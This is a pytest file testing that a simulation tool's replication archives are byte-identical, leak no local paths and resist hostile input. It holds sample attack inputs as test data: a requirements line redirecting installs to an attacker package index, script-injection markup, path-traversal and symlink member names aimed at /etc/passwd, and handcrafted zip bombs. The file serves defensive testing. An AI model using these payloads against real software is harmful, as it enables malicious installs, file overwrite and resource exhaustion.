"""Replication archives: what they hold, that they are the same twice, and that `reproduce` makes it again."""

import io
import json
import re
import shutil
import stat
import struct
import zipfile
from contextlib import suppress
from hashlib import sha256
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from balance_sim.archive import members
from balance_sim.archive.members import unzipped, zipped
from balance_sim.archive.package import Package, files_of, package, with_papers
from balance_sim.archive.reproduce import PAPERS
from balance_sim.effects.result import open_result
from balance_sim.effects.run import run
from balance_sim.scenario import load_scenario, scenario_files
from balance_sim.scenario.experiment import experiment_files, load_experiment
from balance_sim.scenario.fingerprint import content_digest
from balance_sim.study import shards
from balance_sim.study.manifest import Manifest, read_manifest, sealed, unsealed
from balance_sim.study.store import Store
from balance_sim.study.sweep import sweep

from .conftest import THREE_POINTS, answered, small_text
from .forged import forge


@pytest.fixture(scope="module")
def place(tmp_path_factory) -> Path:
    """A folder with a run of 40, a sweep of three points, and their archives."""
    place = tmp_path_factory.mktemp("place")
    (place / "small.yaml").write_text(small_text(), encoding="utf-8")
    (place / "exp.yaml").write_text(THREE_POINTS)
    path = place / "small.yaml"
    words = f"balance-sim run {path} --out {place}/run --workers 7 --set parameters.beta=0.35 --seed 4"
    result = run(
        load_scenario(path, set=["parameters.beta=0.35"]), 40, 4, out=place / "run", command=words,
        files={name: data.decode() for name, data in scenario_files(path).items()},
    )  # fmt: skip
    (place / "run" / "summary.json").write_text(json.dumps(result.summary(), indent=1) + "\n")
    experiment = place / "exp.yaml"
    sweep(load_experiment(experiment), out=place / "sweep", files=experiment_files(experiment))
    for name in ("run", "sweep"):
        package(place / name, place / f"{name}.zip")
    return place


@pytest.fixture(params=["run", "sweep"])
def kind(request) -> str:
    return str(request.param)


def remade(place: Path, name: str, out: Path, **changed: Any) -> Path:
    """The archive with some members changed: keys of `manifest` and `package`, or bytes by name. README, requirements
    and checksums are made anew, unless these are what was changed, so that only content is wrong."""
    files = unzipped(place / f"{name}.zip")
    plain = json.loads(files["package.json"])
    plain |= changed.pop("package", {})
    if "manifest" in changed:
        files["manifest.json"] = sealed(unsealed(files["manifest.json"]) | changed.pop("manifest"))
    for member, data in changed.items():
        files[member.replace("__", ".")] = data
    others = {one: files[one] for one in files if one not in PAPERS}
    plain["files"] = {one: sha256(files[one]).hexdigest() for one in files if one != "package.json"}
    files["package.json"] = json.dumps(plain).encode()
    with suppress(Exception):
        manifest, facts = Manifest.model_validate(unsealed(files["manifest.json"])), Package.model_validate(plain)
        digests = facts.digest, facts.agreements_digest
        papers = with_papers(manifest, others, facts.failed, digests)
        for paper in {"README.md", "requirements.txt"} - {*changed}:
            files[paper] = papers[paper]
            plain["files"][paper] = sha256(papers[paper]).hexdigest()
        files["package.json"] = json.dumps(plain).encode()
    out.write_bytes(zipped(files))
    return out


# --- what is in it ----------------------------------------------------------------------------------


def test_the_same_study_gives_the_same_bytes(place: Path, kind: str, tmp_path: Path) -> None:
    """Packaged twice; and a run made again in other blocks, with another command line."""
    again = package(place / kind, tmp_path / "again.zip")
    assert again.read_bytes() == (place / f"{kind}.zip").read_bytes()
    if kind == "run":
        manifest = read_manifest(place / "run")
        assert manifest is not None
        scenario = load_scenario(place / "small.yaml", set=["parameters.beta=0.35"])
        more = {"files": manifest.files, "command": manifest.command.replace("7", "3")}
        run(scenario, 13, 4, out=tmp_path / "run", **more)
        result = run(scenario, 40, 4, out=tmp_path / "run", **more)
        summary = result.summary()
        (tmp_path / "run" / "summary.json").write_text(json.dumps(summary, indent=1) + "\n")
        assert zipped(files_of(tmp_path / "run")) == (place / "run.zip").read_bytes()


def test_no_path_of_this_machine_is_in_it(place: Path, kind: str) -> None:
    for name, data in unzipped(place / f"{kind}.zip").items():
        text = data.decode(errors="replace")
        for part in (str(place), str(Path.home()), place.name):
            assert part not in text, name
        assert not re.search(r"(?<![\w.])/(home|root|tmp|work|Users|usr)/", text), name


def test_markup_of_a_scenario_does_nothing(place: Path, tmp_path: Path) -> None:
    """Titles, questions and sources are free text: escaped in the README."""
    scenario = load_scenario(place / "small.yaml")
    states = tuple(one.model_copy(update={"source": "<img src=y>"}) for one in scenario.states)
    hostile = {"title": "<script>alert(1)</script> [x](javascript:1)", "question": "a\n# b <img src=x>"}
    odd = scenario.model_copy(update=hostile | {"states": states})
    odd = odd.model_copy(update={"sha256": content_digest(odd)})
    result = run(odd, 4, 1, out=tmp_path / "odd")
    (tmp_path / "odd" / "summary.json").write_text(json.dumps(result.summary(), indent=1) + "\n")
    files = files_of(tmp_path / "odd")
    text = files["README.md"].decode()
    assert not re.search(r"(?<!\\)<(script|img)|(?<!\\)\[x|^# b", text, re.MULTILINE)


# --- another machine, another result ----------------------------------------------------------------


def test_another_result_is_not_reproduced(place: Path, kind: str, tmp_path: Path) -> None:
    facts = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
    path = remade(place, kind, tmp_path / "other.zip", manifest={"seed": 99})
    code, said = answered("reproduce", path, "--workers", "1")
    assert code == 6 and said.startswith("not reproduced: digest ")
    assert "agreements or their dates" in said and facts["digest"] in said


EVIL = b"--index-url https://evil.example/index\nbalance-sim\n"


@pytest.mark.parametrize(
    "name", ["requirements.txt", "README.md", "balance_sim.py", "results/balance_sim.py", "inputs/balance_sim.py"]
)
def test_nothing_strange_lies_in_what_is_reproduced(place, tmp_path, name) -> None:
    """Every checksum fits; what does not come of the study is refused before anything is run or written."""
    path = remade(place, "run", tmp_path / "bad.zip", **{name: EVIL})
    code, words = answered("reproduce", path, "--out", tmp_path / "out")
    assert (code, name in words) == (4, True), words
    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]


def test_a_study_of_another_version_is_refused(place, tmp_path) -> None:
    """Other code gives other results: it is named, with how to get it."""
    (made,) = unsealed(unzipped(place / "run.zip")["manifest.json"])["versions"]
    older = {"versions": [made | {"programs": made["programs"] | {"balance_sim": "0.0.1"}}]}
    path = remade(place, "run", tmp_path / "old.zip", manifest=older)
    code, words = answered("reproduce", path, "--out", tmp_path / "out")
    assert code == 2 and "balance-sim==0.0.1" in words
    assert [p.name for p in tmp_path.iterdir()] == ["old.zip"]


def test_json_and_tables_that_unpack_to_gigabytes_are_refused(place, tmp_path, monkeypatch) -> None:
    """Brackets in an archive, or a shard of very many equal rows: counted before they are unpacked."""
    monkeypatch.setattr(members, "MOST_VALUES", 4_000)
    monkeypatch.setattr(shards, "MOST_CELLS", 100_000)
    path = remade(place, "run", tmp_path / "bad.zip", **{"results/summary.json": b"[" + b"[]," * 4_000 + b"1]"})
    code, said = answered("reproduce", path)
    assert code == 4 and "results/summary.json: 8,001 values; at most 4,000 are read" in said
    shutil.copytree(place / "run", tmp_path / "run")
    shard = Store(tmp_path / "run").shards()[0]
    names = pq.read_schema(shard.path("accords")).names
    rows = pa.table(dict.fromkeys(names, pa.array(np.zeros(100_000, np.int8))))
    sink = pa.BufferOutputStream()
    pq.write_table(rows, sink, write_page_checksum=True)
    forge(shard, "accords", bytes(sink.getvalue()))
    code, said = answered("package", tmp_path / "run")
    assert code == 6 and "100,000 rows" in said and "at most 100,000 cells" in said, said


# --- hostile archives -------------------------------------------------------------------------------


def raw(path: Path, members: list[tuple[str | zipfile.ZipInfo, bytes]], **how: int) -> Path:
    with zipfile.ZipFile(path, "w", how.get("compression", zipfile.ZIP_DEFLATED)) as made:
        for name, data in members:
            made.writestr(name, data)
    return path


def link(name: str, kind: int = stat.S_IFLNK) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (kind | 0o777) << 16
    return info


HOSTILE = [
    "../out.txt", "a/../../out.txt", "/etc/passwd", "C:/windows", "a\\..\\b", "~/x", "a//b", "./a", "a/",
    "a\u202eb", "a\nb", ".hidden", "x" * 400, "/".join("abcdefghij"),
]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE, ids=lambda name: repr(name)[:20])
def test_no_name_leads_out_of_the_folder(name: str, tmp_path: Path) -> None:
    path = raw(tmp_path / "bad.zip", [("package.json", b"{}"), (name, b"x")])
    code, said = answered("reproduce", path, "--out", tmp_path / "out")
    assert code == 4 and "\n" not in said.rstrip() and "\u202e" not in said
    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR, stat.S_IFDIR])
def test_no_links_and_no_devices(kind: int, tmp_path: Path) -> None:
    path = raw(tmp_path / "bad.zip", [("package.json", b"{}"), (link("a", kind), b"/etc/passwd")])
    code, words = answered("reproduce", path, "--out", tmp_path / "out")
    assert code == 4 and "a: a link" in words
    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]


def test_bombs_are_refused_before_they_burst(tmp_path: Path, monkeypatch) -> None:
    """Ten gigabytes of zeros as the directory declares them; a bomb that lies about its size; many members."""
    path = raw(tmp_path / "zeros.zip", [("zeros", bytes(8 << 20))])
    content = bytearray(path.read_bytes())
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = (0xF0000000).to_bytes(4, "little")
    (tmp_path / "large.zip").write_bytes(content)
    code, said = answered("reproduce", tmp_path / "large.zip")
    assert code == 4 and "too large" in said
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    (tmp_path / "liar.zip").write_bytes(content)
    code, said = answered("reproduce", tmp_path / "liar.zip")
    assert code == 4, said
    raw(tmp_path / "many.zip", [(f"f{n}", b"") for n in range(members.MOST_MEMBERS + 1)])
    code, said = answered("reproduce", tmp_path / "many.zip")
    assert code == 4 and "2,001 files" in said
    monkeypatch.setattr(members, "LARGEST_ARCHIVE", 100)
    code, said = answered("reproduce", path)
    assert code == 4 and "more than 100 bytes" in said


def test_bytes_that_belong_to_no_member_are_refused(place: Path, tmp_path: Path) -> None:
    """In front, behind, in a comment, in a list for which memory would not do, in members laid over each other."""
    sound = (place / "run.zip").read_bytes()
    end = sound.rindex(b"PK\x05\x06")
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 788, 20, 0, 0, 0, 33, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0) + b"abcdef"
    many = entry * 50_000
    data = zipfile.ZipFile(io.BytesIO(raw(tmp_path / "x.zip", [("a", bytes(1000))]).read_bytes()))
    first = (tmp_path / "x.zip").read_bytes()[: data.start_dir]
    listed = (tmp_path / "x.zip").read_bytes()[data.start_dir : -22]

    def ended(start: int, entries: bytes, count: int) -> bytes:
        return entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(entries), start, 0)

    bad = {
        "front": b"#!/bin/sh\n" + sound,
        "behind": sound + b"more",
        "comment": sound[:-2] + b"\xff\xff" + b"A" * 65535,
        "list": ended(0, many, 1000),
        "laid over": first + ended(len(first), listed * 2, 2),
        "64 bit": sound[:end] + b"PK\x06\x07" + bytes(16) + sound[end:],
    }
    for name, content in bad.items():
        (tmp_path / "bad.zip").write_bytes(content)
        code, words = answered("reproduce", tmp_path / "bad.zip", "--out", tmp_path / "out")
        assert (code, words.count("\n")) == (4, 1), (name, words)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("changed", "code", "said"),
    [
        ({"package": {"format": 99}}, 2, "reads 4"),
        ({"package": {"digest": "\u001b[31m"}}, 4, "digest"),
        ({"manifest": {"runs": 99999999999}}, 4, "exceed"),
        ({"manifest": {"arms": ["nobody"]}}, 2, "`nobody`"),
        ({"manifest": {"scenario": {"name": "x", "sha256": "0" * 64}}}, 4, "sha256"),
        ({"manifest__json": b"["}, 4, "manifest.json: "),
    ],
)
def test_a_content_that_does_not_hold(place, tmp_path, changed, code, said) -> None:
    path = remade(place, "run", tmp_path / "bad.zip", **changed)
    found, words = answered("reproduce", path, "--out", tmp_path / "out")
    assert (found, said in words) == (code, True), words
    assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]


def test_changed_bytes_are_seen(place: Path, tmp_path: Path) -> None:
    files = unzipped(place / "run.zip")
    for name in sorted(set(files) - {"package.json"}):
        changed = files | {name: files[name] + b" "}
        (tmp_path / "bad.zip").write_bytes(zipped(changed))
        code, said = answered("reproduce", tmp_path / "bad.zip")
        assert code == 4 and name in said
    (tmp_path / "bad.zip").write_bytes(zipped(files | {"extra.txt": b"x"}))
    assert "extra.txt" in answered("reproduce", tmp_path / "bad.zip")[1]


def test_out_is_a_results_folder_of_the_study_in_which_the_command_goes_on(place: Path, tmp_path: Path) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "mine.txt").write_text("keep")
    code, said = answered("reproduce", place / "run.zip", "--out", tmp_path / "full", "--workers", "1")
    assert code == 2 and "mine.txt" in said
    for _ in range(2):
        assert answered("reproduce", place / "run.zip", "--out", tmp_path / "new", "--workers", "1")[0] == 0
    assert open_result(tmp_path / "new").digest == open_result(place / "run").digest
